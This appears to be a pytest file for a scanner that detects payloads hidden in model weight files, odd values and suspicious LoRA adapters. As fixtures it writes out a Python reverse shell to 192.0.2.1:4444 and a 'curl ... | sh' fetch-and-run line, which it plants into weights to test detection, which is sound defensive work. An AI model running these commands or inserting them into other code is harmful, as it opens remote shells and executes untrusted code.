"""Weight statistics: what is hidden is found where it can be read, and trained weights are left alone."""

import base64
import io
import json
import struct
import zlib

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from numpy.typing import NDArray

from hauberk.assets.content import BytesContent
from hauberk.assets.tensors.tensor_map import spans
from hauberk.core import Asset, Confidence, Fact, Finding, Kind, Rule, Severity, Stage, Text
from hauberk.detect import weight_sampling
from hauberk.detect.engines.weights import compile_rules, weight_facts
from hauberk.detect.errors import RuleError
from hauberk.detect.lora_spectrum import STATISTICS, bank, statistics

Floats = NDArray[np.float32]
SCRIPT = b"import os,socket,subprocess;s=socket.socket();s.connect(('192.0.2.1',4444));subprocess.call(['/bin/sh','-i'])\n"
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00>\x00\x01" + bytes(40)


def weights(rows: int = 128, columns: int = 128, seed: int = 1) -> Floats:
    return (np.random.default_rng(seed).standard_normal((rows, columns)) * 0.02).astype("<f4")


def file_of(dtype: str = "F32", **tensors: NDArray[np.generic]) -> bytes:
    header, data = {}, b""
    for name, tensor in tensors.items():
        raw = tensor.tobytes()
        header[name] = {"dtype": dtype, "shape": list(tensor.shape), "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    head = json.dumps(header).encode()
    return struct.pack("<Q", len(head)) + head + data


def facts(data: bytes) -> list[Fact]:
    content = BytesContent(data)
    return list(weight_facts(content, spans(content, "safetensors")))


def checks(data: bytes) -> set[str]:
    return {fact.check for fact in facts(data)}


def planted(payload: bytes, *, width: int = 4, at: int = 0, columns: int = 1) -> bytes:
    """Trained weights with `payload` in their `columns` lowest bytes from element `at` on."""
    raw = np.frombuffer(bytearray(weights().tobytes()), np.uint8).reshape(-1, width).copy()
    padded = np.frombuffer(payload + bytes(-len(payload) % columns), np.uint8).reshape(-1, columns)
    raw[at : at + len(padded), :columns] = padded
    return file_of(w=raw.reshape(-1).view("<f4").reshape(128, 128))


@pytest.mark.parametrize("seed", range(8))
def test_trained_weights_are_quiet(seed: int) -> None:
    assert checks(file_of(w=weights(seed=seed), b=weights(1, 128, seed)[0])) == set()


@pytest.mark.parametrize("dtype", ["<f2", "<f8"])
def test_other_widths_are_quiet(dtype: str) -> None:
    assert checks(file_of({"<f2": "F16", "<f8": "F64"}[dtype], w=weights().astype(dtype))) == set()


def test_weights_widened_from_a_short_type_are_quiet() -> None:
    narrow = (weights().view(np.uint32) & np.uint32(0xFFFF0000)).view(np.float32)
    assert (
        checks(file_of(a=narrow, b=weights().astype("<f2").astype("<f4"), c=np.zeros((64, 64), "<f4"), d=np.ones((64, 64), "<f4")))
        == set()
    )


def test_tables_of_positions_and_masks_are_quiet() -> None:
    angles = np.outer(np.arange(512), 10000.0 ** (-np.arange(64) / 64)).astype("<f4")
    mask = np.triu(np.full((64, 64), -np.inf, "<f4"), 1)
    tables = {"sin": np.sin(angles), "rope.cos": np.cos(angles), "arange": np.arange(4096, dtype="<f4"), "attn_mask": mask}
    assert checks(file_of(**tables)) == set()


@pytest.mark.parametrize(
    ("payload", "kind"),
    [
        (SCRIPT, "text"),
        (base64.b64encode(zlib.compress(SCRIPT)), "text"),
        (ELF, "elf"),
        (b"#!/bin/sh\ncurl http://192.0.2.1 | sh\n", "script"),
        (b"PK\x03\x04\x14\x00" + bytes(40), "zip"),
        (b"MZ\x90\x00" + bytes(80), "pe"),
    ],
)
@pytest.mark.parametrize(("at", "columns"), [(0, 1), (5000, 1), (0, 2), (0, 3)])
def test_a_readable_payload_is_found(payload: bytes, kind: str, at: int, columns: int) -> None:
    found = [f for f in facts(planted(payload, at=at, columns=columns)) if f.check == "weights.hidden-payload"]
    assert kind in {f.attrs["kind"] for f in found}


@pytest.mark.parametrize("order", ["big", "little"])
def test_a_payload_in_the_lowest_bit_is_found(order: str) -> None:
    raw = np.frombuffer(bytearray(weights().tobytes()), np.uint8).copy()
    bits = np.unpackbits(np.frombuffer(SCRIPT, np.uint8), bitorder=order)  # type: ignore[call-overload]
    raw[: 4 * len(bits) : 4] = raw[: 4 * len(bits) : 4] & 0xFE | bits
    found = facts(file_of(w=raw.view("<f4").reshape(128, 128)))
    assert {f.check for f in found} == {"weights.hidden-payload"}
    assert "import os" in found[0].quote


def test_encrypted_bytes_look_like_noise_and_nothing_is_claimed() -> None:
    noise = np.random.default_rng(7).integers(0, 256, 8000, dtype=np.uint8).tobytes()
    assert checks(planted(noise)) == set()


def test_a_stretch_of_uneven_bytes_is_a_hint() -> None:
    mixed = weights()
    raw = np.frombuffer(bytearray(mixed.tobytes()), np.uint8).reshape(-1, 4).copy()
    raw[:4096, 0] = np.random.default_rng(3).integers(1, 60, 4096)
    assert "weights.low-bytes" in checks(file_of(w=raw.reshape(-1).view("<f4").reshape(128, 128)))


def test_not_a_number_and_giants() -> None:
    broken, giant, scaled = weights(), weights(), weights()
    broken[3, 4], giant[5, 6] = np.nan, 1e30
    scaled[9] *= 1000
    assert checks(file_of(w=broken)) == {"weights.non-finite"}
    assert checks(file_of(w=giant)) == {"weights.giant"}
    assert {(f.check, f.attrs["degree"]) for f in facts(file_of(w=scaled))} == {("weights.rows", "high")}


def test_a_giant_in_bfloat16() -> None:
    giant = weights()
    giant[5, 6] = 1e30
    assert checks(file_of("BF16", w=(giant.view(np.uint32) >> 16).astype("<u2"))) == {"weights.giant"}


def test_offsets_name_the_value() -> None:
    broken = weights()
    broken[3, 4] = np.nan
    data = file_of(w=broken)
    (fact,) = facts(data)
    assert fact.offset is not None
    assert np.isnan(np.frombuffer(data[fact.offset : fact.offset + 4], "<f4")[0])


def test_a_large_file_is_sampled_and_the_note_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    big = weights(1024, 1024)
    raw = np.frombuffer(bytearray(big.tobytes()), np.uint8).reshape(-1, 4).copy()
    raw[: len(SCRIPT), 0] = np.frombuffer(SCRIPT, np.uint8)
    content = BytesContent(file_of(w=raw.reshape(-1).view("<f4").reshape(1024, 1024)))
    monkeypatch.setattr(weight_sampling.plan, "__defaults__", (256 << 10,))
    (fact,) = weight_facts(content, spans(content, "safetensors"))
    assert "6.2% of the values were looked at" in fact.note


def test_a_plan_stays_within_its_budget() -> None:
    from hauberk.assets.tensors.tensor_span import TensorSpan

    many = [TensorSpan(str(n), "F32", (1 << 20,), n << 22, (n + 1) << 22) for n in range(500)]
    made = weight_sampling.plan(many, 8 << 20)
    assert made.seen <= 8 << 20
    assert made.total == 500 << 22
    assert len({span.name for span, _, _ in made.places}) >= 400


def rule(match: dict[str, object]) -> Rule:
    text = Text(en="x", zh="x")
    return Rule(
        "r", text, Stage.MODEL, "weight-tampering", (Kind.TENSORS,), Severity.LOW, Confidence.LOW, text, text, "weights", match, ()
    )


def test_the_engine_judges_by_its_rules() -> None:
    broken = weights()
    broken[0, 0] = np.nan
    asset = Asset("m", Kind.TENSORS, "safetensors", "m", BytesContent(file_of(w=broken)))
    detect = compile_rules([rule({"checks": ["weights.non-finite"]})])
    assert [type(item) for item in detect(asset)] == [Finding]
    assert list(detect(Asset("m", Kind.TENSORS, "msgpack", "m", BytesContent(b"")))) == []
    with pytest.raises(RuleError):
        compile_rules([rule({"nonsense": 1})])


def test_an_array_of_data_may_have_gaps() -> None:
    file = io.BytesIO()
    np.save(file, np.array([1.0, np.nan, 1e30], "<f4"))
    detect = compile_rules([rule({"checks": ["weights.non-finite", "weights.giant"]})])
    assert list(detect(Asset("a", Kind.TENSORS, "npy", "a", BytesContent(file.getvalue())))) == []


def adapter(make: object, rank: int = 8, pairs: int = 6) -> bytes:
    assert callable(make)
    tensors: dict[str, Floats] = {}
    for n in range(pairs):
        down, up = make(np.random.default_rng(n), rank)
        tensors[f"base_model.model.layers.{n}.q_proj.lora_A.weight"] = down.astype("<f4")
        tensors[f"base_model.model.layers.{n}.q_proj.lora_B.weight"] = up.astype("<f4")
    return file_of(**tensors)


def one_direction(generator: np.random.Generator, rank: int) -> tuple[Floats, Floats]:
    down, up = generator.standard_normal((rank, 64)), generator.standard_normal((64, rank)) * 0.001
    up[:, 0] += 1.0
    return down.astype("<f4"), up.astype("<f4")


def many_directions(generator: np.random.Generator, rank: int) -> tuple[Floats, Floats]:
    return generator.standard_normal((rank, 64)).astype("<f4"), generator.standard_normal((64, rank)).astype("<f4")


def test_an_adapter_in_one_direction_is_named_and_a_spread_one_is_not() -> None:
    assert checks(adapter(one_direction)) == {"weights.lora-spectrum"}
    assert checks(adapter(many_directions)) == set()
    assert checks(adapter(one_direction, pairs=2)) == set()
    assert checks(adapter(one_direction, rank=200, pairs=4)) == set(), "the bank holds no adapter of such a rank"


def test_the_gram_trick_gives_the_singular_values_of_the_product() -> None:
    down, up = many_directions(np.random.default_rng(5), 6)
    made = statistics(down.astype(float), up.astype(float))
    assert made is not None
    squares = np.linalg.svd(up.astype(float) @ down.astype(float), compute_uv=False)[:6] ** 2
    parts = squares / squares.sum()
    assert made[0] == pytest.approx(parts.max(), rel=1e-6)
    assert made[1] == pytest.approx(-(parts * np.log(parts)).sum() / np.log(6), rel=1e-6)
    assert made[4] == pytest.approx((parts**2).sum(), rel=1e-6)
    assert statistics(down.astype(float), np.zeros((64, 6))) is None


def test_adapters_of_impossible_size_have_no_statistics() -> None:
    down, up = (m.astype(float) for m in many_directions(np.random.default_rng(5), 6))
    assert statistics(down * 1e200, up * 1e200) is None
    assert statistics(down, up * 1e-200) is None
    base, larger = statistics(down, up), statistics(down * 10, up * 10)
    assert base is not None
    assert larger is not None
    assert larger[3] == pytest.approx(base[3] + 2)


def test_the_bank_is_there() -> None:
    assert all(len(r.mean) == len(r.deviation) == len(STATISTICS) and min(r.deviation) > 0 for r in bank())
    assert {4, 8, 16, 32} <= {r.rank for r in bank()}


@settings(max_examples=100, deadline=None)
@given(st.binary(min_size=64, max_size=2000), st.sampled_from(["F32", "F16", "BF16", "F64"]), st.integers(1, 9))
def test_any_bytes_raise_nothing(body: bytes, dtype: str, rows: int) -> None:
    size = {"F32": 4, "F16": 2, "BF16": 2, "F64": 8}[dtype]
    columns = max(1, len(body) // size // rows)
    raw = np.frombuffer(body[: rows * columns * size].ljust(rows * columns * size), f"<u{size}").reshape(rows, columns)
    assert len(facts(file_of(dtype, w=raw))) < 100
